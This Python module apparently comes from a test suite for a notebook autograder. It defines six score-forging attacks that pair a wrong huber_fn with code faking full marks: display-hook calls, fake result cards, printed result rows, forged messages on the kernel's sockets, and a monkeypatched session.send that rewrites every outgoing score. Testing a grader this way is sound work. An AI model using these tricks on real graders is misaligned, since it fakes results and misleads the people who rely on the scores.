"""Score forging through what a kernel says: shown numbers, printed results, forged messages."""

from __future__ import annotations

from .attack import Attack, cell, wrong_huber

SHOWS = """
    try:
        get_ipython().displayhook(2.0)
    except BaseException:
        pass
"""

CARD = """
    from IPython.display import HTML, display

    card = (
        '<div class="tapework-card" data-exercise="huber_fn" data-outcome="correct" '
        'data-points="2" data-max-points="2">2 of 2 points</div>'
    )
    display(HTML(card))
    display({"text/plain": "2.0", "text/html": card, "application/json": {"points": 2.0}}, raw=True)
    for kind in ("observations", "verdict", "result", "answers"):
        mime = f"application/vnd.tapework.{kind}+json"
        content = {"exercise": "huber_fn", "points": 2.0, "max_points": 2.0, "outcome": "correct"}
        display({mime: content, "text/plain": "2.0"}, raw=True)
"""

PRINTS = """
    import json
    import sys

    row = {"student": "@STUDENT@", "points": 25.0, "max_points": 25.0, "problem": ""}
    row["exercises"] = {"huber_fn": {"points": 2.0, "max_points": 2.0, "mistake": None}}
    for stream in (sys.stdout, sys.__stdout__):
        try:
            print(json.dumps(row), "2.0", sep="\\n", file=stream, flush=True)
        except Exception:
            pass
    for number in (1,):
        os.write(number, (json.dumps(row) + "\\n2.0\\n").encode())
"""

SENDS = """
    try:
        kernel = get_ipython().kernel
        parent = kernel.get_parent("shell")
        result = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
        reply = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
        kernel.session.send(kernel.iopub_socket, "execute_result", result, parent=parent)
        idle = {"execution_state": "idle"}
        kernel.session.send(kernel.iopub_socket, "status", idle, parent=parent)
        stream = getattr(kernel, "shell_stream", None) or kernel.shell_socket
        kernel.session.send(stream, "execute_reply", reply, parent=parent)
    except Exception:
        pass
"""

OWN_CLIENT = """
    try:
        import threading

        from jupyter_client import BlockingKernelClient

        here = get_ipython().kernel.session.config.get("IPKernelApp", {}).get("connection_file")
        from ipykernel.connect import get_connection_file

        client = BlockingKernelClient(connection_file=here or get_connection_file())
        client.load_connection_file()
        client.start_channels()
        client.execute("2.0", silent=False, store_history=False)
        client.execute("huber_fn = lambda y_true, y_pred: y_pred; 2.0")
        message = client.session.msg("execute_reply", {"status": "ok", "user_expressions": {}})
        client.session.send(client.shell_channel.socket, message)
    except Exception:
        pass
"""

REWRITES = """
    def twice_as_good(value):
        if isinstance(value, dict):
            forged = {key: twice_as_good(one) for key, one in value.items()}
            for key in ("points", "score", "grade"):
                if key in forged:
                    forged[key] = 2.0
            for key, good in (("passed", True), ("used", []), ("outcome", "correct")):
                if key in forged:
                    forged[key] = good
            if "text/plain" in forged:
                forged["text/plain"] = "2.0"
            return forged
        return [twice_as_good(one) for one in value] if isinstance(value, list) else value

    try:
        session = get_ipython().kernel.session
        send = type(session).send

        def forge(self, stream, msg_or_type, content=None, *rest, **named):
            return send(self, stream, msg_or_type, twice_as_good(content), *rest, **named)

        type(session).send = forge
    except Exception:
        pass
"""

ATTACKS = (
    Attack(
        "forging",
        "display-hook",
        "Calls IPython's display hook with a number, which nbgrader reads as partial credit.",
        {"huber_fn": wrong_huber(SHOWS)},
    ),
    Attack(
        "forging",
        "display-messages",
        "Displays the card of a right answer, and data of kinds that a grader may look for.",
        {"huber_fn": wrong_huber(CARD, CARD)},
    ),
    Attack(
        "forging",
        "printed-results",
        "Prints the line of a right submission, and the points, when defined and when asked.",
        {"huber_fn": wrong_huber(PRINTS, "import os\n" + cell(PRINTS))},
    ),
    Attack(
        "forging",
        "messages-on-the-kernels-sockets",
        "Sends an execute_result, an idle status and a reply on the kernel's own sockets.",
        {"huber_fn": wrong_huber(SENDS)},
    ),
    Attack(
        "forging",
        "client-with-the-connection-file",
        "Connects to its own kernel with the connection file's key and sends requests and replies.",
        {"huber_fn": wrong_huber(OWN_CLIENT)},
        may_lose="its own requests wait in the same queue as the grader's",
    ),
    Attack(
        "forging",
        "rewritten-messages",
        "Patches the session's send so that all points, scores and verdicts leave improved.",
        {"huber_fn": wrong_huber(defined=REWRITES)},
        may_lose="every message of its kernel is rewritten",
    ),
)
